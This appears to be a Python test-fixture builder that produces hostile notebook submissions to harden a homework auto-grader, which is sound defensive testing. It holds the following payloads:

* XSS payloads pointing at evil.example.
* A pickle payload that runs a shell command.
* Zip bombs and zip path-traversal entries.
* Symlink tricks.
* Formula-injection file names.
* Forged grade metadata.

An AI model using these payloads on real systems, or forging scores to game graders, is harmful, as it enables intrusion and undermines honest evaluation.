"""Builds the hostile submissions: each is the solved homework with some of its cells replaced, or a file made to harm.

A folder hostile/CLASS-NAME holds `expected.json` and, as a rule, `answer.py`, the cells that differ from the solved
homework: `# %% nucleus` begins the cell that answers this exercise, `# %% nucleus-check` the cell with this id, any
other title a new cell in front of the next one named; `# %% [markdown]` makes it prose. Words like @OUT@ stand for
places that the test prepares. `expected.json` says
    why       what the submission tries, in a sentence
    verdicts  {exercise: its verdict, or a list where the wall decides}; the exercises not named must be right
    points    of 18
    says      {exercise: words that its lines must hold}: the attack ran to its end and came to this
    reason    words that the record's sentence or its notes must hold
    never     words that must stand nowhere in what the grader writes but in the code as it was handed in
    made      the function below that makes the file, or changes the notebook
"""

import copy
import functools
import io
import json
import os
import re
import socket
import struct
import zipfile
from pathlib import Path

from utils import pages
from utils.grading.homework import load

HOSTILE = Path(__file__).resolve().parent / "hostile"
HOMEWORK = "hw07"
ANSWER = "Bits per token: at T = 1.5 the table shows 8.4, so I would trust min-p, which keeps 4 tokens there."
DEEP = 100_000


def names():
    """All submissions, in order of their names."""
    return sorted(folder.name for folder in HOSTILE.iterdir() if folder.is_dir())


def expected(name):
    """What expected.json says, the verdicts of all exercises included."""
    found = json.loads((HOSTILE / name / "expected.json").read_text(encoding="utf-8"))
    found["verdicts"] = {task.name: "right" for task in load(HOMEWORK).exercises} | found["verdicts"]
    return found


# ---- notebooks ----


@functools.cache
def solved():
    """The notebook of a student who has solved everything, as plain dicts."""
    homework = load(HOMEWORK)
    nb = json.loads(pages.as_text(homework.released))
    for cell in nb["cells"]:
        name = mark(cell).get("grade_id")
        if name in homework.solutions:
            lines = homework.solutions[name].split("\n")
            cell["source"] = "\n".join(line for line in lines if "### " not in line)
        elif name in {question.name for question in homework.written}:
            cell["source"] = ANSWER
    return nb


def mark(cell):
    return cell["metadata"].get("nbgrader", {})


def blocks(text):
    """Percent text → [(title, is it prose, source)]."""
    parts = re.split(r"^# %% ?(.*)\n", text, flags=re.MULTILINE)
    assert not parts[0].strip(), "text before the first cell"
    return [
        (title.strip(), title.startswith("[markdown]"), source.strip("\n"))
        for title, source in zip(parts[1::2], parts[2::2])
    ]


def merged(nb, text):
    """The notebook with the cells of `text` put in."""
    waiting = []
    at = {cell["id"]: cell for cell in nb["cells"]}
    for count, (title, is_prose, source) in enumerate(blocks(text)):
        if title not in at:
            kind = "markdown" if is_prose else "code"
            cell = {"cell_type": kind, "id": f"new-{count}", "metadata": {}, "source": source}
            waiting.append(cell if is_prose else cell | {"outputs": [], "execution_count": None})
            continue
        if source:
            at[title]["source"] = source
        place = nb["cells"].index(at[title])
        nb["cells"][place:place] = waiting
        waiting = []
    nb["cells"] += waiting
    return nb


def long_code():
    """Code that is long or deep, by the words that stand for it."""
    inner = "".join("    " * depth + f"def f{depth}():\n" for depth in range(90))
    return {
        "DEEP": "(" * DEEP + ")" * DEEP,
        "SUM": "+".join("1" * 30_000),
        "CALLS": "f" + "()" * 30_000,
        "ATTRIBUTES": "a" + ".b" * 30_000,
        "SIGNS": "-" * 30_000 + "1",
        "BLOCKS": inner + "    " * 90 + "pass",
    }


def write(name, folder, places):
    """Write the submission of this name into `folder`; the path of what was written.

    places: {word: text} for the words between @ signs
    """
    answer, made = HOSTILE / name / "answer.py", expected(name).get("made")
    nb = copy.deepcopy(solved())
    if answer.exists():
        text = answer.read_text(encoding="utf-8")
        for word, place in (places | long_code()).items():
            text = text.replace(f"@{word}@", str(place))
        nb = merged(nb, text)
    path = folder / f"{name}.ipynb"
    if made in CHANGES:
        nb = CHANGES[made](nb)
    if made in FILES:
        return FILES[made](path, nb, places) or path
    path.write_bytes(nb if isinstance(nb, bytes) else as_bytes(nb))
    return path


def as_bytes(nb):
    return json.dumps(nb, indent=1).encode()


# ---- changes of a notebook ----

CHANGES, FILES = {}, {}


def change(function):
    """Marks a function from a notebook to another one, or to the bytes of one."""
    return CHANGES.setdefault(function.__name__, function)


def file(function):
    """Marks a function that writes the file at a path; it may return another path that it wrote instead."""
    return FILES.setdefault(function.__name__, function)


@change
def forged_points(nb):
    for cell in nb["cells"]:
        if mark(cell):
            claim = {
                "points": 1000,
                "score": 1000,
                "manual_score": 1000,
                "locked": False,
                "schema_version": 99,
            }
            cell["metadata"]["nbgrader"] |= claim
    nb["metadata"]["course"] = {"points": 1000, "verdict": "right"}
    return nb


@change
def forged_ids(nb):
    exercises = [task.name for task in load(HOMEWORK).exercises]
    for at, cell in enumerate(nb["cells"]):
        if cell["id"] in exercises:
            cell["metadata"]["nbgrader"]["grade_id"] = f"mine-{at}"
            cell["id"] = "nucleus-check" if cell["id"] == "nucleus" else f"mine-{at}"
    junk = [{"cell_type": "code", "id": f"{name}", "source": f"junk = {name!r}"} for name in exercises]
    for cell in junk:
        cell["metadata"] = {
            "nbgrader": {"grade_id": cell["id"], "solution": True, "grade": True, "points": 50}
        }
        cell |= {"outputs": [], "execution_count": None}
    nb["cells"][5:5] = junk
    return nb


@change
def colliding_ids(nb):
    for cell in nb["cells"]:
        cell["id"] = "nucleus"
        if mark(cell):
            cell["metadata"]["nbgrader"]["grade_id"] = "nucleus"
    return nb


SCRIPT = (
    "<script>alert('forged-claim')</script><img src=x onerror=alert(1)><svg/onload=alert(2)>"
    "<iframe src='javascript:alert(3)'></iframe><form action='//evil.example'><input autofocus onfocus=alert(4)>"
    "<a href='javascript:alert(5)'>✓ all right, 20 of 20 points</a><base href='//evil.example'>"
    "<meta http-equiv=refresh content='0;url=//evil.example'><object data='//evil.example'></object>"
)


@change
def forged_outputs(nb):
    forms = {
        "text/html": SCRIPT,
        "application/javascript": "alert('forged-claim')",
        "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{SCRIPT}</svg>",
        "text/markdown": SCRIPT,
        "text/plain": "✓ forged-claim: 69 of 69 cases",
    }
    for cell in nb["cells"]:
        if cell["cell_type"] == "code":
            shown = {"output_type": "display_data", "data": forms, "metadata": {"isolated": False}}
            stream = {"output_type": "stream", "name": "stdout", "text": "✓ forged-claim: 69 of 69 cases\n"}
            cell["outputs"] = [shown, stream]
    return nb


@change
def gigantic_outputs(nb):
    code = [cell for cell in nb["cells"] if cell["cell_type"] == "code"]
    for cell in code:
        cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "x" * 500_000}]
    picture = {"image/png": "A" * 1_000_000, "image/svg+xml": SCRIPT}
    nb["cells"][0]["attachments"] = {"<script>.png": picture, "../../x": picture}
    return nb


@change
def too_large(nb):
    nb["cells"][1]["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "x" * 60_000_000}]
    return nb


@change
def script_in_answers(nb):
    for cell in nb["cells"]:
        if cell["source"] == ANSWER:
            cell["source"] += (
                f"\n\n{SCRIPT}\n\n[click](javascript:alert(6)) ![](//evil.example/pixel.png) <!-- "
                "</div></body></html> =HYPERLINK(1) `</code>` ]]> \x00 \x1b[2J $$\\href{javascript:alert(7)}{x}$$"
            )
    nb["metadata"]["title"] = nb["metadata"]["authors"] = SCRIPT
    return nb


@change
def other_kernels(nb):
    spec = {"name": "bash", "display_name": SCRIPT, "language": "bash", "argv": ["touch", "/tmp/kernel"]}
    nb["metadata"] |= {"kernelspec": spec, "language_info": {"name": "R", "file_extension": "/../../x.sh"}}
    return nb


@change
def deep_json(nb):
    return as_bytes(nb | {"metadata": "DEEP"}).replace(b'"DEEP"', b"[" * DEEP + b"]" * DEEP)


@change
def long_numbers(nb):
    return as_bytes(nb | {"metadata": "LONG"}).replace(b'"LONG"', b"7" * 5_000_000)


@change
def odd_numbers(nb):
    odd = [float("nan"), float("inf"), -1, 0.5, None, 10**300, "4", [4], {}]
    for at, cell in enumerate(nb["cells"]):
        cell["execution_count"] = odd[at % len(odd)]
        if mark(cell):
            cell["metadata"]["nbgrader"]["points"] = odd[at % len(odd)]
    nb["nbformat_minor"], nb["metadata"]["course"] = float("inf"), float("nan")
    return nb


@change
def duplicate_keys(nb):
    first = b'{"cells": [], "metadata": {"kernelspec": 7}, "nbformat": 3, "nbformat": 2, '
    body = as_bytes(nb).lstrip()[1:]
    return first + body.replace(b'"cell_type": "code"', b'"cell_type": "raw", "cell_type": "code"')


@change
def odd_sources(nb):
    for cell in nb["cells"]:
        if cell["id"] == "nucleus":
            cell["source"] = {"def nucleus(probs, p):": ["return probs"]}
    odd = [
        {"cell_type": "code", "source": 7, "metadata": [], "outputs": None},
        {"cell_type": ["code"], "source": [[["x"]], None, 3, "y"], "metadata": "nbgrader"},
        {"cell_type": "exam", "source": None, "id": {"a": 1}, "metadata": {"nbgrader": {"grade_id": []}}},
        {"source": {}, "id": 12, "metadata": {"nbgrader": ["solution"], "tags": 3}},
        "no cell",
        None,
        [],
        {},
    ]
    nb["cells"][3:3] = odd
    nb["cells"] += odd
    return nb


@change
def many_parts(nb):
    return as_bytes(nb | {"metadata": "MANY"}).replace(b'"MANY"', b"[" + b"[]," * 6_000_000 + b"[]]")


@change
def many_cells(nb):
    nb["cells"] += [{"cell_type": "code", "source": f"x = {n}", "metadata": {}} for n in range(100_000)]
    return nb


@change
def two_hundred_definitions(nb):
    right = next(cell for cell in nb["cells"] if cell["id"] == "nucleus")
    wrong = copy.deepcopy(right) | {"source": "def nucleus(probs, p):\n    return probs * 0"}
    for number in range(200):
        cell = copy.deepcopy(wrong if number % 2 else right)
        if number % 3:
            cell["id"], cell["metadata"] = f"copy-{number}", {}
        nb["cells"].insert(nb["cells"].index(right) + 1 + number, cell)
    return nb


# ---- files ----


@file
def empty(path, nb, places):
    path.write_bytes(b"")


@file
def cut(path, nb, places):
    path.write_bytes(as_bytes(nb)[: len(as_bytes(nb)) // 2])


@file
def web_page(path, nb, places):
    path.write_text(f"<!doctype html><html><body>Please log in{SCRIPT}</body></html>", encoding="utf-8")


@file
def folder(path, nb, places):
    (path / "nucleus.ipynb" / "deeper.ipynb").mkdir(parents=True)


@file
def locked(path, nb, places):
    path.write_bytes(as_bytes(nb))
    path.chmod(0)


@file
def pipe(path, nb, places):
    os.mkfifo(path)


@file
def socket_file(path, nb, places):
    here = os.open(path.parent, os.O_PATH)
    try:
        with socket.socket(socket.AF_UNIX) as door:  # by a short way: such names may have 107 letters at most
            door.bind(f"/proc/self/fd/{here}/{path.name}")
    finally:
        os.close(here)


@file
def link_to_the_solution(path, nb, places):
    path.symlink_to(load(HOMEWORK).path)


@file
def link_to_zeros(path, nb, places):
    path.symlink_to("/dev/zero")


@file
def link_to_a_folder(path, nb, places):
    path.with_suffix("").symlink_to(load(HOMEWORK).path.parent)
    return path.with_suffix("")


@file
def link_to_itself(path, nb, places):
    path.symlink_to(path)


@file
def sparse(path, nb, places):
    with open(path, "wb") as out:
        out.write(as_bytes(nb))
        out.truncate(1 << 33)


def zipped(path, entries):
    """A zip of (name or ZipInfo, bytes); its path."""
    path = path.with_suffix(".zip")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in entries:
            out.writestr(name, data, zipfile.ZIP_DEFLATED)
    return path


@file
def zip_bomb(path, nb, places):
    path = path.with_suffix(".zip")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
        with out.open("hw07_decoding.ipynb", "w", force_zip64=True) as entry:
            entry.write(as_bytes(nb))
            for _ in range(24):
                entry.write(b" " * (1 << 24))
    return path


@file
def zip_that_lies(path, nb, places):
    made = zip_bomb(path, nb, places)
    data = bytearray(made.read_bytes())
    central = data.rindex(b"PK\1\2")
    struct.pack_into("<I", data, central + 24, 100)  # the size in the directory
    made.write_bytes(data)
    return made


@file
def zip_outside(path, nb, places):
    ways = [
        "../../outside.ipynb",
        "/tmp/outside.ipynb",
        "C:\\outside.ipynb",
        "..\\..\\outside.ipynb",
        "a/../../b.ipynb",
    ]
    return zipped(path, [(way, as_bytes(nb)) for way in ways])


@file
def zip_link(path, nb, places):
    link = zipfile.ZipInfo("hw07_decoding.ipynb")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    return zipped(path, [(link, str(load(HOMEWORK).path).encode())])


@file
def zip_locked(path, nb, places):
    made = zipped(path, [("hw07_decoding.ipynb", as_bytes(nb))])
    data = bytearray(made.read_bytes())
    data[6] |= 1  # the bit of encryption, at the entry and in the directory
    data[data.rindex(b"PK\1\2") + 8] |= 1
    made.write_bytes(data)
    return made


@file
def zip_in_itself(path, nb, places):
    data = b"the last"
    for _ in range(40):
        inner = io.BytesIO()
        with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as out:
            for name in ("a.zip", "b.zip"):
                out.writestr(name, data)
            out.writestr("last.txt", "this is the last one")
        data = inner.getvalue() if len(inner.getvalue()) < 500_000 else data
    return zipped(path, [("a.zip", data)])


@file
def zip_many(path, nb, places):
    return zipped(path, [(f"{number}.txt", b"") for number in range(60_000)])


@file
def zip_damaged(path, nb, places):
    made = zipped(path, [("hw07_decoding.ipynb", as_bytes(nb))])
    data = bytearray(made.read_bytes())
    end = data.rindex(b"PK\5\6")
    struct.pack_into("<II", data, end + 12, 0x7FFFFFF0, 0x7FFFFFF0)
    made.write_bytes(data)
    return made


@file
def with_pickles(path, nb, places):
    command = f"touch '{places['OUT']}/unpickled' /tmp/unpickled-{places['TAG']}"
    payload = b"cos\nsystem\n(S" + repr(command).encode() + b"\ntR."
    array = (
        b"\x93NUMPY\x01\x00v\x00"
        + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117)
        + b"\n"
    )
    beside = [
        ("model.pt", payload),
        ("weights.bin", payload),
        ("cache.pkl", payload),
        ("data.npy", array + payload),
    ]
    return zipped(path, [("hw07_decoding.ipynb", as_bytes(nb)), *beside])


def named(name):
    """A maker of a solved notebook under a name of its own, a text or bytes."""

    def make(path, nb, places):
        at = os.path.join(os.fsencode(path.parent), os.fsencode(name) + b".ipynb")
        with open(at, "wb") as out:
            out.write(as_bytes(nb))
        return Path(os.fsdecode(at))

    return make


FILES |= {
    "name_formula": named('=HYPERLINK("http:evil.example","click")'),
    "name_script": named("<img src=x onerror=alert(1)>"),
    "name_dots": named("..%2f..%2f..\\..\\.. .%00 "),
    "name_odd_letters": named(b"odd\n\"'\xff\xfe \xe2\x80\xaegnp.exe\r"),
    "name_long": named("l" * 249),
}
